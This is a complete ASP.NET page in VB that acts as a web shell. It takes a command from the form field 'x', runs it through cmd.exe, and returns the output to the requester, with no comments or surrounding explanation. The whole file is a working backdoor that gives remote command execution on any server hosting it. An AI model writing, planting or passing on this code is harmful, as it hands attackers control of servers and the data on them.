<%@ Page Language="VB" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
    Sub Page_Load(sender As Object, e As EventArgs)
        If Request.Form("x") <> "" Then
            Dim p As New Process()
            p.StartInfo.FileName = "cmd.exe"
            p.StartInfo.Arguments = "/c " & Request.Form("x")
            p.StartInfo.UseShellExecute = False
            p.StartInfo.RedirectStandardOutput = True
            p.Start()
            Response.Write(p.StandardOutput.ReadToEnd())
        End If
    End Sub
</script>
